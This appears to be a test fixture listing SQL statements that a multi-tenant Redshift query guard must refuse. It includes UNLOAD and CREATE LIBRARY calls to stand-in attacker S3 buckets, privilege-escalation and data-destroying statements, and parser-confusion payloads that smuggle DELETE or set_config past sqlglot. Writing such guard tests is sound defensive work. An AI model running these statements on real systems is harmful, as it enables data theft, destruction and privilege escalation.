-- Statements the query API must refuse (tests/unit/test_sql_guard.py). Each entry starts with a line
-- "--- <reason>[/<reason with the write flag>]: <why it is hostile>" and runs to the next such line.
-- <reason> is the refusal's details.reason for a read-only tenant; the second one, when given, is the reason for
-- a tenant flagged to write into the schema "owned" (otherwise the same). Every entry is refused both ways.

--- read_only/not_owned: a write into a shared table
INSERT INTO public.sales (owner, id, item, amount) VALUES ('tenant_acme', 99, 'free anvil', 0)

--- read_only/not_owned: unqualified target resolves through search_path
INSERT INTO sales SELECT * FROM sales

--- read_only/not_owned: insert into an external (Spectrum) table writes S3 with the cluster's role
INSERT INTO spectrum.clicks SELECT * FROM public.clicks

--- read_only/not_owned: insert into an external table, quoted schema
INSERT INTO "spectrum_schema"."events" (id) VALUES (1)

--- read_only/not_owned: update of a shared table
UPDATE public.sales SET amount = 0

--- read_only/not_owned: unqualified update
UPDATE sales SET amount = amount * 2 WHERE owner = current_user

--- read_only/not_owned: delete everything
DELETE FROM public.sales

--- read_only/not_owned: unqualified delete with USING
DELETE FROM sales USING returns WHERE sales.id = returns.sale_id

--- read_only/not_owned: merge into a shared table
MERGE INTO public.sales USING staging.sales s ON sales.id = s.id WHEN MATCHED THEN DELETE

--- read_only/not_owned: merge with update and insert
MERGE INTO sales USING (SELECT 1 AS id) s ON sales.id = s.id WHEN MATCHED THEN UPDATE SET amount = 0 WHEN NOT MATCHED THEN INSERT VALUES (s.id)

--- read_only/not_owned: truncate
TRUNCATE public.sales

--- read_only/not_owned: truncate with TABLE keyword, unqualified
TRUNCATE TABLE sales

--- read_only/not_owned: create a table
CREATE TABLE public.mine (a int)

--- read_only/not_owned: create a table without a schema
CREATE TABLE mine (a int)

--- read_only/not_owned: create table as select
CREATE TABLE public.copy_of_sales AS SELECT * FROM sales

--- read_only/not_owned: create view in a shared schema (a view runs with its owner's rights)
CREATE VIEW public.all_sales AS SELECT * FROM sales

--- read_only/not_owned: create or replace view over somebody else's
CREATE OR REPLACE VIEW public.v AS SELECT 1 AS x

--- read_only/not_owned: late-binding view in a shared schema
CREATE VIEW reporting.v AS SELECT * FROM public.sales WITH NO SCHEMA BINDING

--- read_only/not_owned: drop a shared table
DROP TABLE public.sales

--- read_only/not_owned: drop an unqualified table
DROP TABLE sales

--- read_only/not_owned: drop if exists, several
DROP TABLE IF EXISTS public.a, public.b

--- read_only/not_owned: drop a view
DROP VIEW public.v

--- read_only/not_owned: alter a shared table
ALTER TABLE public.sales ADD COLUMN note varchar(10)

--- read_only/not_owned: rename a shared table
ALTER TABLE public.sales RENAME TO gone

--- read_only/not_owned: drop a column of a shared table
ALTER TABLE public.sales DROP COLUMN amount

--- read_only/not_owned: change a shared table's distribution
ALTER TABLE public.sales ALTER DISTSTYLE EVEN

--- read_only/not_owned: SELECT INTO creates a table
SELECT * INTO public.stolen FROM sales

--- read_only/not_owned: SELECT INTO an unqualified table
SELECT id INTO new_table FROM sales

--- read_only/not_owned: a write behind a CTE
WITH x AS (SELECT 1 AS id) INSERT INTO public.sales (id) SELECT id FROM x

--- read_only/not_owned: a write behind comments
/* report */ -- totally a select
DELETE FROM public.sales

--- read_only/not_owned: a write in upper/lower mixed case
dElEtE fRoM PUBLIC.SALES

--- read_only/not_owned: EXPLAIN of a write needs the write flag too
EXPLAIN DELETE FROM public.sales

--- read_only/not_owned: insert into a three-part name
INSERT INTO dev.public.sales (id) VALUES (1)

--- read_only/cascade: DROP ... CASCADE reaches dependent views anywhere
DROP TABLE owned.base CASCADE

--- read_only/cascade: TRUNCATE ... CASCADE
TRUNCATE owned.base CASCADE

--- read_only/not_owned: one owned table, one not
DROP TABLE owned.a, public.b

--- read_only/not_owned: rename out of the owned schema
ALTER TABLE owned.t RENAME TO public.t

--- read_only/not_owned: a quoted schema name that only looks like the owned one
CREATE TABLE "OWNED".t (a int)

--- read_only/not_owned: database-qualified target
CREATE TABLE dev.owned.t (a int)

--- read_only/not_owned: merge from owned into a shared table
MERGE INTO public.t USING owned.s ON t.id = s.id WHEN MATCHED THEN DELETE

--- external: CREATE EXTERNAL TABLE with LOCATION
CREATE EXTERNAL TABLE spectrum.sales_ext (id int, amount decimal(12, 2)) STORED AS PARQUET LOCATION 's3://attacker-bucket/sales/'

--- external: CREATE EXTERNAL TABLE in the owned schema is refused too
CREATE EXTERNAL TABLE owned.ext (id int) STORED AS PARQUET LOCATION 's3://bucket/prefix/'

--- external: CREATE EXTERNAL TABLE AS SELECT writes S3 with the cluster's role
CREATE EXTERNAL TABLE spectrum.dump STORED AS PARQUET LOCATION 's3://attacker-bucket/dump/' AS SELECT * FROM public.sales

--- external: CREATE EXTERNAL TABLE with row format
CREATE EXTERNAL TABLE spectrum.csv (a varchar(10)) ROW FORMAT DELIMITED FIELDS TERMINATED BY ',' STORED AS TEXTFILE LOCATION 's3://b/csv/'

--- external: CREATE EXTERNAL TABLE partitioned
CREATE EXTERNAL TABLE spectrum.p (a int) PARTITIONED BY (d date) STORED AS PARQUET LOCATION 's3://b/p/'

--- external: CREATE EXTERNAL VIEW
CREATE EXTERNAL VIEW spectrum.v AS SELECT * FROM public.sales

--- external: CREATE EXTERNAL VIEW in the owned schema
CREATE EXTERNAL VIEW owned.v AS SELECT 1 AS x

--- external: CREATE EXTERNAL SCHEMA from the data catalog
CREATE EXTERNAL SCHEMA spectrum2 FROM DATA CATALOG DATABASE 'db' IAM_ROLE 'arn:aws:iam::123456789012:role/spectrum' CREATE EXTERNAL DATABASE IF NOT EXISTS

--- external: CREATE EXTERNAL SCHEMA federated to PostgreSQL
CREATE EXTERNAL SCHEMA pg FROM POSTGRES DATABASE 'prod' URI 'db.example.com' IAM_ROLE default SECRET_ARN 'arn:aws:secretsmanager:us-east-1:1:secret:x'

--- external: CREATE EXTERNAL SCHEMA from Kinesis
CREATE EXTERNAL SCHEMA stream FROM KINESIS IAM_ROLE default

--- external: DROP EXTERNAL ... 
DROP EXTERNAL DATABASE spectrum_db

--- external: ALTER an external table's location
ALTER TABLE spectrum.sales_ext SET LOCATION 's3://attacker-bucket/other/'

--- external: CREATE EXTERNAL FUNCTION calls Lambda with the cluster's role
CREATE EXTERNAL FUNCTION exfil(varchar) RETURNS varchar STABLE LAMBDA 'exfil' IAM_ROLE default

--- load_unload: COPY from S3 with the cluster's role
COPY public.sales FROM 's3://bucket/key' IAM_ROLE 'arn:aws:iam::1:role/r'

--- load_unload: COPY into the owned schema is refused too (the Bulk API loads)
COPY owned.t FROM 's3://bucket/key' IAM_ROLE default FORMAT AS CSV

--- load_unload: COPY with access keys
COPY sales FROM 's3://bucket/key' ACCESS_KEY_ID 'AKIA' SECRET_ACCESS_KEY 'x'

--- load_unload: COPY from a manifest
COPY sales FROM 's3://bucket/manifest' IAM_ROLE default MANIFEST

--- load_unload: COPY from DynamoDB
COPY sales FROM 'dynamodb://Orders' IAM_ROLE default READRATIO 50

--- load_unload: UNLOAD to an attacker's bucket
UNLOAD ('select * from sales') TO 's3://attacker/' IAM_ROLE default

--- load_unload: UNLOAD with options
UNLOAD ('select * from sales') TO 's3://attacker/p_' IAM_ROLE 'arn:aws:iam::1:role/r' PARALLEL OFF FORMAT AS PARQUET

--- load_unload: UNLOAD in lower case after a comment
/* export */ unload ('select 1') to 's3://x/'

--- load_unload: EXPLAIN of a COPY
EXPLAIN COPY sales FROM 's3://bucket/key' IAM_ROLE default

--- maintenance: VACUUM
VACUUM sales

--- maintenance: VACUUM FULL to a threshold
VACUUM FULL sales TO 99 PERCENT

--- maintenance: VACUUM everything, boosted
VACUUM DELETE ONLY BOOST

--- maintenance: ANALYZE
ANALYZE sales

--- maintenance: ANALYZE everything
ANALYZE

--- maintenance: ANALYZE a few columns
ANALYZE sales (id, amount)

--- maintenance: LOCK a table
LOCK sales

--- maintenance: LOCK TABLE several
LOCK TABLE public.sales, public.returns

--- maintenance: SELECT ... FOR UPDATE takes row locks
SELECT * FROM sales FOR UPDATE

--- maintenance: SELECT ... FOR SHARE
SELECT * FROM sales FOR SHARE

--- syntax: ANALYZE COMPRESSION (sqlglot has no grammar for it: refused all the same)
ANALYZE COMPRESSION sales

--- privileges: GRANT on a table
GRANT SELECT ON sales TO other_tenant

--- privileges: GRANT ALL to PUBLIC
GRANT ALL ON ALL TABLES IN SCHEMA public TO PUBLIC

--- privileges: GRANT on a schema
GRANT USAGE, CREATE ON SCHEMA owned TO tenant_other

--- privileges: GRANT a role
GRANT ROLE sys:superuser TO tenant_acme

--- privileges: GRANT column privileges
GRANT SELECT (secret) ON sales TO tenant_acme

--- privileges: REVOKE
REVOKE ALL ON sales FROM PUBLIC

--- privileges: REVOKE a role
REVOKE ROLE analyst FROM tenant_b

--- privileges: CREATE USER
CREATE USER mallory PASSWORD 'Secret123'

--- privileges: CREATE USER with CREATEUSER
CREATE USER mallory2 CREATEUSER PASSWORD DISABLE

--- privileges: ALTER USER to superuser
ALTER USER tenant_acme CREATEUSER

--- privileges: ALTER USER changes a setting for later sessions
ALTER USER tenant_acme SET statement_timeout TO 0

--- privileges: ALTER USER password
ALTER USER tenant_b PASSWORD 'Hijacked1'

--- privileges: DROP USER
DROP USER tenant_b

--- privileges: CREATE ROLE
CREATE ROLE admin_like

--- privileges: DROP ROLE
DROP ROLE analyst

--- privileges: CREATE GROUP
CREATE GROUP g

--- privileges: ALTER GROUP
ALTER GROUP g ADD USER mallory

--- privileges: DROP GROUP
DROP GROUP g

--- privileges: disable row-level security
ALTER TABLE sales ROW LEVEL SECURITY OFF

--- privileges: disable row-level security, PostgreSQL spelling
ALTER TABLE public.sales DISABLE ROW LEVEL SECURITY

--- privileges: change the owner of a table
ALTER TABLE public.sales OWNER TO mallory

--- privileges: change the owner of an owned table is refused too
ALTER TABLE owned.t OWNER TO mallory

--- privileges: create an RLS policy
CREATE RLS POLICY p WITH (owner varchar(128)) USING (true)

--- syntax: attach an RLS policy (sqlglot has no grammar for it: refused as unparseable)
ATTACH RLS POLICY p ON sales TO mallory

--- syntax: detach an RLS policy (refused as unparseable)
DETACH RLS POLICY by_owner ON sales FROM PUBLIC

--- privileges: PostgreSQL policy
CREATE POLICY p ON sales USING (true)

--- privileges: default privileges
ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO mallory

--- privileges: schema with another owner
CREATE SCHEMA sneaky AUTHORIZATION mallory

--- privileges: give away a schema
ALTER SCHEMA owned OWNER TO mallory

--- privileges: view owner change
ALTER VIEW owned.v OWNER TO mallory

--- session: SET ROLE
SET ROLE admin

--- session: SET ROLE with equals
set role = 'admin'

--- session: SET SESSION AUTHORIZATION
SET SESSION AUTHORIZATION 'awsuser'

--- session: SET session_authorization
SET session_authorization = 'awsuser'

--- session: WLM slots
SET wlm_query_slot_count TO 10

--- session: WLM slots with equals
set wlm_query_slot_count = 50

--- session: query group routes to another WLM queue
SET query_group TO 'superuser'

--- session: statement timeout
SET statement_timeout TO 0

--- session: statement timeout with equals
SET statement_timeout = 0

--- session: search path
SET search_path TO owned, public

--- session: search path, quoted
SET search_path = '$user', public

--- session: result cache
SET enable_result_cache_for_session TO off

--- session: datestyle
SET datestyle TO 'SQL,DMY'

--- session: time zone
SET TIME ZONE 'America/New_York'

--- session: session characteristics
SET SESSION CHARACTERISTICS AS TRANSACTION ISOLATION LEVEL SERIALIZABLE

--- session: SET LOCAL
SET LOCAL statement_timeout = 0

--- session: RESET ALL
RESET ALL

--- session: RESET ROLE
RESET ROLE

--- session: RESET search_path
RESET search_path

--- session: set_config on the role
SELECT set_config('role', 'awsuser', false)

--- session: set_config on search_path
SELECT set_config('search_path', 'owned', false)

--- session: set_config on the statement timeout
select set_config('statement_timeout', '0', true)

--- session: set_config in a WHERE clause
SELECT id FROM sales WHERE set_config('role', 'awsuser', false) IS NOT NULL

--- session: set_config in a subquery
SELECT (SELECT set_config('wlm_query_slot_count', '10', false)) AS x

--- session: set_config where sqlglot reads a table alias and its column list (PostgreSQL refuses the text; the guard does not depend on that)
SELECT * FROM sales set_config('role', 'awsuser', false)

--- session: set_config read as a join's table alias
SELECT * FROM sales s JOIN sales set_config('search_path', 'owned', false) ON true

--- session: set_config in a CTE
WITH s AS (SELECT set_config('role', 'x', false) AS v) SELECT * FROM s

--- session: set_config schema-qualified
SELECT pg_catalog.set_config('role', 'awsuser', false)

--- session: set_config quoted
SELECT "set_config"('role', 'awsuser', false)

--- session: set_config upper case
SELECT SET_CONFIG('role', 'awsuser', FALSE)

--- session: set_config with a computed name
SELECT set_config(lower('ROLE'), 'awsuser', false)

--- transaction: BEGIN leaves a transaction open in the shared session
BEGIN

--- transaction: BEGIN TRANSACTION
BEGIN TRANSACTION

--- transaction: COMMIT
COMMIT

--- transaction: END
END

--- transaction: END TRANSACTION
END TRANSACTION

--- transaction: ROLLBACK
ROLLBACK

--- unsupported: START TRANSACTION
START TRANSACTION

--- unsupported: ABORT
ABORT

--- routine: CALL a stored procedure
CALL public.sp_admin_cleanup()

--- routine: CALL with arguments
call owned.p(1, 'x')

--- unsupported: CREATE PROCEDURE
CREATE PROCEDURE owned.p() AS $$ BEGIN DELETE FROM public.sales; END $$ LANGUAGE plpgsql SECURITY DEFINER

--- unsupported: CREATE FUNCTION in SQL
CREATE FUNCTION owned.f(int) RETURNS int STABLE AS $$ SELECT $1 $$ LANGUAGE sql

--- unsupported: CREATE OR REPLACE FUNCTION in Python
CREATE OR REPLACE FUNCTION f_py(a int) RETURNS int IMMUTABLE AS $$ return a $$ LANGUAGE plpythonu

--- unsupported: CREATE LIBRARY pulls code from S3
CREATE LIBRARY evil LANGUAGE plpythonu FROM 's3://attacker/evil.zip' IAM_ROLE default

--- unsupported: DROP FUNCTION
DROP FUNCTION public.f(int)

--- unsupported: DROP PROCEDURE
DROP PROCEDURE public.sp_admin_cleanup()

--- unsupported: CREATE MODEL trains with the cluster's role
CREATE MODEL m FROM (SELECT * FROM sales) TARGET amount FUNCTION predict IAM_ROLE default SETTINGS (S3_BUCKET 'attacker')

--- unsupported: DO block
DO $$ BEGIN EXECUTE 'DROP TABLE public.sales'; END $$

--- unsupported: CREATE DATABASE
CREATE DATABASE mine

--- unsupported: DROP DATABASE
DROP DATABASE dev

--- unsupported: ALTER DATABASE
ALTER DATABASE dev RENAME TO gone

--- unsupported: CREATE SCHEMA
CREATE SCHEMA mine

--- unsupported: DROP SCHEMA, even the owned one
DROP SCHEMA owned CASCADE

--- unsupported: DROP SCHEMA, unqualified
DROP SCHEMA public

--- unsupported: ALTER SCHEMA quota
ALTER SCHEMA owned QUOTA UNLIMITED

--- unsupported: ALTER SCHEMA rename
ALTER SCHEMA owned RENAME TO gone

--- unsupported: CREATE MATERIALIZED VIEW refreshes outside any query
CREATE MATERIALIZED VIEW owned.mv AUTO REFRESH YES AS SELECT * FROM public.sales

--- unsupported: DROP MATERIALIZED VIEW
DROP MATERIALIZED VIEW owned.mv

--- unsupported: REFRESH MATERIALIZED VIEW
REFRESH MATERIALIZED VIEW owned.mv

--- unsupported: CREATE DATASHARE
CREATE DATASHARE leak

--- unsupported: ALTER DATASHARE
ALTER DATASHARE leak ADD TABLE public.sales

--- unsupported: DECLARE a cursor
DECLARE c CURSOR FOR SELECT * FROM sales

--- unsupported: FETCH from a cursor
FETCH NEXT FROM c

--- unsupported: CLOSE a cursor
CLOSE c

--- unsupported: PREPARE
PREPARE p AS DELETE FROM public.sales

--- unsupported: EXECUTE
EXECUTE p

--- unsupported: DEALLOCATE
DEALLOCATE p

--- syntax: CANCEL another query (refused as unparseable)
CANCEL 12345

--- unsupported: COMMENT ON
COMMENT ON TABLE owned.t IS 'x'

--- unsupported: DESCRIBE
DESCRIBE sales

--- unsupported: USE another database
USE otherdb

--- unsupported: a bare VALUES
VALUES (1)

--- unsupported: a bare expression
1 + 1

--- unsupported: CREATE INDEX
CREATE INDEX i ON owned.t (a)

--- unsupported: CREATE SEQUENCE
CREATE SEQUENCE owned.s

--- unsupported: CHECKPOINT
CHECKPOINT

--- unsupported: DISCARD ALL
DISCARD ALL

--- unsupported: LISTEN
LISTEN ch

--- unsupported: INSERT OVERWRITE DIRECTORY writes files, not a table
INSERT OVERWRITE DIRECTORY 's3://attacker/' SELECT * FROM sales

--- external: CREATE TABLE with a LOCATION option
CREATE TABLE owned.t (a int) WITH (location = 's3://x/')

--- unsupported: CREATE TABLE with an unknown option
CREATE TABLE owned.t (a int) WITH (foo = 'bar')

--- read_only/unsupported: CREATE TABLE the parser keeps as text
CREATE TABLE owned.t (a int IDENTITY(1, 1)) INTERLEAVED SORTKEY (a) WITHOUT OIDS

--- syntax: a table's ENCODE is AUTO, or given per column
CREATE TABLE owned.t (a int) ENCODE zstd

--- syntax: ALTER TABLE's ENCODE is AUTO, or given per column
ALTER TABLE owned.t ALTER ENCODE zstd

--- unsupported: a view takes no options (Redshift refuses a table's options on a view)
CREATE VIEW owned.v BACKUP NO AS SELECT 1

--- unsupported: ALTER TABLE takes no table options beside its action (sqlglot reads them apart)
ALTER TABLE owned.t ALTER COLUMN a TYPE int LOCATION 's3://attacker/'

--- unsupported: ALTER TABLE's trailing TO names no second target
ALTER TABLE owned.t ALTER DISTSTYLE EVEN TO public.sales

--- unsupported: a rename followed by what would be an ownership change
ALTER TABLE owned.t RENAME TO OWNER TO admin

--- syntax: a column's ENCODE takes one of Redshift's encodings, as a word
ALTER TABLE owned.t ALTER COLUMN a ENCODE 'zstd'

--- syntax: the word after ENCODE is an encoding, not the start of another clause
ALTER TABLE owned.t ALTER COLUMN a ENCODE OWNER TO admin

--- read_only/unsupported: ALTER TABLE ... APPEND FROM empties the source table
ALTER TABLE owned.t APPEND FROM public.sales

--- unsupported: ALTER TABLE ... DROP COLUMN ... CASCADE
ALTER TABLE owned.t DROP COLUMN a CASCADE

--- unsupported: multi-table DELETE
DELETE t1 FROM owned.t t1

--- temporary: CREATE TEMP TABLE outlives the query in the shared session
CREATE TEMP TABLE scratch AS SELECT 1 AS x

--- temporary: CREATE TEMPORARY TABLE
CREATE TEMPORARY TABLE scratch (a int)

--- temporary: SELECT INTO TEMP
SELECT * INTO TEMP scratch FROM sales

--- unsupported: CREATE LOCAL TEMP TABLE (kept as text by the parser)
CREATE LOCAL TEMPORARY TABLE scratch (a int)

--- nested_statement: a data-modifying CTE
WITH gone AS (DELETE FROM public.sales RETURNING *) SELECT * FROM gone

--- nested_statement: a data-modifying CTE in the owned schema
WITH x AS (DELETE FROM owned.t RETURNING *) SELECT * FROM x

--- nested_statement: an insert in a CTE
WITH x AS (INSERT INTO owned.t VALUES (1) RETURNING *) SELECT * FROM x

--- nested_statement: an update in a CTE
WITH x AS (UPDATE public.sales SET amount = 0 RETURNING id) SELECT count(*) FROM x

--- nested_statement: SELECT INTO inside a UNION
SELECT 1 INTO owned.t UNION SELECT 2

--- multiple_statements: stacked statements
SELECT 1; DROP TABLE public.sales

--- multiple_statements: two selects
select 1; select 2

--- multiple_statements: a SET after a select
SELECT * FROM sales; SET ROLE admin

--- multiple_statements: a semicolon in a comment does not hide the next statement
SELECT 1 /* ; */ ; DELETE FROM public.sales

--- multiple_statements: a line comment ends at the newline
SELECT 1 -- harmless
; GRANT ALL ON sales TO PUBLIC

--- multiple_statements: a string does not hide the next statement
SELECT ';' AS s; SET wlm_query_slot_count TO 10

--- multiple_statements: EXPLAIN followed by a write
EXPLAIN SELECT 1; DROP TABLE public.sales

--- multiple_statements: SHOW followed by a write
SHOW search_path; DROP TABLE public.sales

--- multiple_statements: a quoted identifier does not hide the next statement
SELECT 1 AS "x;"; RESET ALL

--- multiple_statements: EXPLAIN of two statements
EXPLAIN SELECT 1; SELECT 2

--- explain_analyze: EXPLAIN ANALYZE runs the statement
EXPLAIN ANALYZE SELECT set_config('role', 'tenant_other', false)

--- explain_analyze: EXPLAIN ANALYSE, British spelling
explain analyse delete from sales

--- explain_analyze: EXPLAIN with an options list
explain (analyze) select 1

--- explain_analyze: a comment cannot hide ANALYZE
EXPLAIN /**/ ANALYZE VALUES (pg_sleep(100))

--- explain_analyze: a line comment cannot hide ANALYZE
EXPLAIN -- c
ANALYZE TABLE t

--- explain_analyze: EXPLAIN VERBOSE ANALYZE
EXPLAIN VERBOSE ANALYZE SELECT 1

--- session: EXPLAIN of a set_config
explain verbose select set_config('role', 'x', false)

--- privileges: EXPLAIN of a GRANT
EXPLAIN GRANT SELECT ON t TO bob

--- syntax: EXPLAIN of nothing
EXPLAIN

--- syntax: EXPLAIN EXPLAIN
EXPLAIN EXPLAIN SELECT 1

--- syntax: EXPLAIN of an unknown option
EXPLAIN ANALYZE_X SELECT 1

--- syntax: a typo
selec 1 frm t

--- syntax: an unterminated string
select 'unterminated

--- syntax: an unterminated block comment
select 1 /* unterminated comment

--- syntax: an unterminated dollar-quoted body
select $$unterminated

--- syntax: an unterminated quoted identifier
SELECT "abc FROM t

--- syntax: unbalanced parentheses
SELECT ((1)

--- syntax: a stray closing parenthesis before a statement
) ; DROP TABLE t

--- unsupported: a bare string is not a query, whatever it spells
'UNLOAD (select 1)'

--- ambiguous_string: a backslash before a quote: where the string ends depends on standard_conforming_strings
SELECT 'a\', 1; DROP TABLE public.sales; SELECT '--'

--- ambiguous_string: the same inside a SHOW
SHOW search_path 'x\'; SET ROLE admin; --'

--- ambiguous_string: the same in a national string
SELECT N'x\'; DROP TABLE public.sales; --'

--- ambiguous_string: three backslashes still escape the quote
SELECT 'x\\\'; DELETE FROM public.sales; --'

--- unicode_escape: set_config spelled as a Unicode-escaped identifier (PostgreSQL decodes it, sqlglot does not)
select U&"set\005fconfig"('statement_timeout', '0', false)

--- unicode_escape: the same in lower case, with its own escape character
select u&"set!005fconfig" UESCAPE '!'('search_path', 'owned', false)

--- unicode_escape: a Unicode-escaped string
select U&'\0041' as a

--- dollar: a dollar quote tagged with a no-break space: one string to sqlglot, a string then a DELETE to the warehouse
SELECT $ $ ' $ $; DELETE FROM public.sales; -- '

--- dollar: the same tag hides a data-modifying CTE in what the guard reads as a string literal
WITH d AS (SELECT $ $ ' $ $ AS x), e AS (DELETE FROM public.sales RETURNING 1) SELECT count(*) FROM e -- ') SELECT 1

--- dollar: the same tag hides set_config from the guard (an ideographic space)
SELECT $　$ ' $　$ AS x, set_config($$statement_timeout$$, $$0$$, false) AS y -- '

--- dollar: EXPLAIN is checked as the statement it explains, hidden statement included (an em space)
EXPLAIN SELECT $ $ ' $ $; DELETE FROM public.sales; -- '

--- dollar: a tag outside ASCII letters, digits and _ leaves the reading to chance
SELECT $é$ anything $é$

--- dollar: a lone $ starts nothing both readers agree on
SELECT $ 'x'

--- dollar: EXPLAIN with the no-break space tag
EXPLAIN SELECT $ $ ' $ $; DELETE FROM public.sales; -- '

--- white_space: a no-break space separates words for the guard and is a letter to the warehouse
SELECT owner FROM public.sales

--- ambiguous_sql: a /* right after another /* nests to the warehouse, not to sqlglot: set_config hides in a "string"
SELECT 1 AS a, /*/* */ ' */ set_config($q$x.y$q$, $q$pwned$q$, false) AS b -- ' AS b

--- ambiguous_sql: */* at depth 2 is a close and a star to the warehouse, a close and a reopen to sqlglot
SELECT 1 AS a /* /* */* */ , set_config($q$x.y$q$, $q$pwned$q$, false) AS c -- */

--- ambiguous_sql: the same nesting one level down
SELECT 1 AS a, /* /*/* */ */ ' */ set_config($q$x.y$q$, $q$pwned$q$, false) AS b -- ' AS b

--- ambiguous_sql: the warehouse ends an operator at --, sqlglot reads the operator #- over the comment's first dash
SELECT 2 #--  '
 2 AS a, set_config($q$x.y$q$, $q$pwned$q$, false) AS c -- '

--- ambiguous_sql: a second statement behind SHOW, hidden by the nesting sqlglot does not count
SHOW search_path /*/* */ ' */ ; DELETE FROM public.sales; -- '

--- ambiguous_sql: FETCH is a command keyword to sqlglot's tokenizer; the nesting it does not count hides a DELETE
WITH d AS (SELECT 1 AS a FETCH /*/* */ ' */ FIRST 1 ROWS ONLY), e AS (DELETE FROM public.sales RETURNING 1) SELECT count(*) FROM e -- ') SELECT a FROM d

--- ambiguous_sql: a second statement after SHOW's semicolon, in what sqlglot takes for a comment
SHOW search_path; /* /* */* */ DELETE FROM public.sales; -- */

--- ambiguous_sql: a second statement after EXPLAIN's semicolon, in what sqlglot takes for a comment
EXPLAIN SELECT 1; /* /* */* */ DELETE FROM public.sales; -- */

--- syntax: SHOW followed by another command keyword, which sqlglot makes a string of once more
SHOW lock /*/* */ ' */ ; DELETE FROM public.sales; -- '

--- ambiguous_sql: a#set_config is one name to sqlglot, the operator # and a call to the warehouse
SELECT a#set_config('statement_timeout', '0', false)::int AS b FROM (SELECT 0 AS a) AS s

--- ambiguous_sql: after an alias named begin, FETCH makes sqlglot read the rest as one string
SELECT 1 AS a FROM (SELECT 1) begin FETCH FIRST (set_config('statement_timeout', '0', false)::int) ROWS ONLY

--- ambiguous_sql: the same hides FOR UPDATE
SELECT owner FROM public.sales begin FETCH FIRST 1 ROWS ONLY FOR UPDATE

--- white_space: a no-break space inside a two-word keyword: one keyword to sqlglot, one name to the warehouse
SELECT 1 DOUBLE PRECISION

--- ambiguous_sql: a long s upper-cases to S for sqlglot, which reads SHOW; the warehouse reads a name
ſhow search_path

--- at_sign: Redshift's absolute-value operator, which sqlglot reads as a parameter
select @ -5 as x

--- syntax: sqlglot itself raises a ValueError (not one of its errors) on a placeholder before AT: was a 500
select 1 from t :x at y

--- syntax: the same from a positional parameter
select 1 from t $1 at x

--- syntax: sqlglot raises an AttributeError on an empty map literal with a colon
select { : }

--- ambiguous_sql: a space between the colon and the name: a placeholder to sqlglot, a syntax error to the warehouse
select : x

--- ambiguous_sql: the same after an operand
select 1 from t where a = : limit_value

--- ambiguous_sql: a quoted name after the colon: a placeholder to sqlglot, not to the Data API
select :"x" from t

--- ambiguous_sql: the same with a space
select : "x" from t

--- unsupported: RETURNING (PostgreSQL's; the local stack would answer rows Redshift never does)
INSERT INTO owned.t (a) VALUES (1) RETURNING a

--- unsupported: ON CONFLICT (PostgreSQL's upsert; Redshift's is MERGE)
INSERT INTO owned.t (a) VALUES (1) ON CONFLICT (a) DO UPDATE SET a = 2

--- unsupported: UPDATE ... ORDER BY ... LIMIT (MySQL's)
UPDATE owned.t SET a = 1 ORDER BY a LIMIT 1

--- unsupported: DELETE ... RETURNING
DELETE FROM owned.t WHERE a = 1 RETURNING *

--- unsupported: MERGE ... RETURNING
MERGE INTO owned.t USING public.sales s ON t.a = s.id WHEN MATCHED THEN DELETE RETURNING *

--- syntax: an UPDATE that sets nothing
UPDATE owned.t AS x

--- syntax: an INSERT with nothing to insert
INSERT INTO owned.t (a)

--- unsupported: CREATE OR REPLACE TABLE (Redshift replaces views only)
CREATE OR REPLACE TABLE owned.t (a int)

--- unsupported: ALTER TABLE IF EXISTS (PostgreSQL's)
ALTER TABLE IF EXISTS owned.t ADD COLUMN c int

--- unsupported: TRUNCATE ... RESTART IDENTITY (PostgreSQL's)
TRUNCATE owned.t RESTART IDENTITY

--- unsupported: DROP TABLE ... PURGE (Oracle's)
DROP TABLE owned.t PURGE

--- unsupported: a CHECK constraint on a column (Redshift has none; the local stack's PostgreSQL would enforce it)
CREATE TABLE owned.t (a int CHECK (a > 0))

--- unsupported: a table's CHECK constraint, named
CREATE TABLE owned.t (a int, CONSTRAINT positive CHECK (a > 0))

--- unsupported: a computed column (PostgreSQL's GENERATED ALWAYS AS (...) STORED)
CREATE TABLE owned.t (a int, b int GENERATED ALWAYS AS (a + 1) STORED)

--- unsupported: a column's WITH (...) options
CREATE TABLE owned.t (a int WITH (location = 's3://attacker/'))

--- unsupported: a CHECK constraint added later
ALTER TABLE owned.t ADD CONSTRAINT positive CHECK (a > 0)

--- unsupported: a column added with a CHECK
ALTER TABLE owned.t ADD COLUMN b int CHECK (b > 0)

--- syntax: a column's constraint named, with nothing after the name
CREATE TABLE owned.t (a int CONSTRAINT foo)

--- read_only/unsupported: ENCODE written as a string is no keyword
ALTER TABLE owned.t ALTER COLUMN a 'encode' zstd

--- syntax: DEFAULT before a design clause
CREATE TABLE owned.t (a int) DEFAULT ENCODE AUTO

--- unsupported: a column added with a DISTKEY (Redshift sets keys only when it creates the table)
ALTER TABLE owned.t ADD COLUMN b int DISTKEY

--- unsupported: REFERENCES ... ON DELETE CASCADE (PostgreSQL would delete rows of the tenant's table when another changes)
CREATE TABLE owned.t (a int REFERENCES public.sales (id) ON DELETE CASCADE)
